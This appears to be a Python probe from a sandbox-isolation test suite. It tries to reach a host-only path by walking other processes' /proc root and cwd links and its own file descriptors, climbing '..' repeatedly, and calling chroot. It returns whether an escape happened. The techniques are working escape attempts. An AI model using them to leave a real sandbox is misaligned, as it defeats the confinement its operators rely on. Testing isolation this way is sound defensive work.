"""Wants the host's file system: chroot, the roots and folders of other processes, inherited folders.

`hidden` is a path that exists on the host and not in the sandbox; whatever reaches it is an escape.
"""

import contextlib
import os
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object], hidden: str = "/hostile") -> dict[str, object]:
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    foreign = tuple(f"/proc/{name}/{door}" for name in others for door in ("root", "cwd"))
    doors = [*foreign]
    doors += [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
    doors += [f"/proc/self/task/{os.getpid()}/root", "/.."]
    ready({})
    opened, reached = [], []
    for door in doors:
        for climb in ("", "/.." * 40):
            with contextlib.suppress(OSError):
                os.listdir(door + climb)
                opened.append(door + climb)
                os.stat(door + climb + hidden)
                reached.append(door + climb)
    with contextlib.suppress(OSError):
        os.chroot(".")
        reached.append("chroot")
    opened = [door for door in opened if door.startswith(foreign)]
    return {"escaped": bool(reached or opened), "detail": {"reached": reached, "opened": opened}}


if __name__ == "__main__":
    __import__("_common").command(attack)
